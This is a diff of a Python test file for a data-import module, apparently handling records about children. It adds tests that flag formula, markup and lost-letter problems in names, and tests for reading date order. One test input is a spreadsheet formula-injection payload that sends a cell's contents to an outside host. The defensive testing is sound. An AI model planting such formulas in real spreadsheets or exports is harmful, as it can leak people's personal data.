@@ -7,6 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from children.importing import values
+from children.importing.date_orders import order_of
 from children.importing.problems import Severity
 from children.importing.values import Notes
 
@@ -211,3 +212,23 @@ def test_one_long_line_becomes_an_address(line, parts):
     found = values.address(line, postcode="sk99 9rn")
     assert (found["address"], found["town"], found["county"]) == parts
     assert found["postcode"] == "SK99 9RN"
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ('=HYPERLINK("http://example.org/?"&A1,"click")', "formula"),
+        ("+1+1", "formula"),
+        ("-2+3", "formula"),
+        ("@SUM(A1)", "formula"),
+        ('<a href="?">Rowan</a>', "markup"),
+        ("Zo?", "lost_letters"),
+    ],
+)
+def test_what_is_wrong_with_a_name_is_called_by_its_own_name(text, code):
+    assert read(values.name, text) == (text, [(Severity.WARN, code)])
+
+
+@pytest.mark.parametrize(("text", "order"), [("31/03/2018", "day"), ("03/31/2018", "month"), ("3.4.18", ""), ("", "")])
+def test_in_which_order_a_date_can_be_read(text, order):
+    assert order_of(text) == order
